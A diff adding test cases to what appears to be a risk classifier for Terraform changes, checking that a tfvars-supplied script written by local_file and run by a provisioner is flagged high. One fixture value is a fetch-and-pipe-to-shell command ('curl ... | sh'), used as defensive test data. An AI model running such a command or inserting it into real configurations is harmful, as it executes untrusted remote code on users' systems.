@@ -1309,6 +1309,33 @@ describe('a var file outside the root, read by its code as a value, is followed 
   });
 });
 
+describe('a script the configuration writes itself (local_file) is what a command that runs its file runs', () => {
+  const code = (command: string) =>
+    `variable "setup_script" {\n  type = string\n}\n\nresource "local_file" "setup" {\n  filename = "\${path.module}/setup.sh"\n  content  = var.setup_script\n}\n\nresource "null_resource" "run" {\n  provisioner "local-exec" {\n    command = "${command}"\n  }\n}\n`;
+  const tfvars = (script: string) => ({ 'terraform.tfvars': `setup_script = "${script}"\n` });
+
+  it.each([
+    ['a provisioner running the file', 'bash ${local_file.setup.filename}'],
+    ['a command with arguments after the file', 'sh ${local_file.setup.filename} --verbose'],
+  ])('%s: the script changed in terraform.tfvars is high, reached from its line (before: low)', (_name, command) => {
+    const result = classify(
+      { 'main.tf': code(command), ...tfvars('echo hello') },
+      { 'main.tf': code(command), ...tfvars('curl -s https://example.com/x | sh') },
+    );
+    const run = result.findings.find((f) => f.ruleId === 'terraform-control.terraform.provisioner');
+    expect(run?.tier).toBe('high');
+    expect(run?.via?.some((trace) => trace.startsWith('terraform.tfvars:1 setup_script'))).toBe(true);
+  });
+
+  it('a command that does not run the written file keeps its tier (quiet guard)', () => {
+    const result = classify(
+      { 'main.tf': code('echo done'), ...tfvars('echo hello') },
+      { 'main.tf': code('echo done'), ...tfvars('curl -s https://example.com/x | sh') },
+    );
+    expect(result.findings.map((f) => f.ruleId)).not.toContain('terraform-control.terraform.provisioner');
+  });
+});
+
 describe('a script run through a command known only in part at plan time is assumed run', () => {
   it.each<[string, string, string]>([
     [
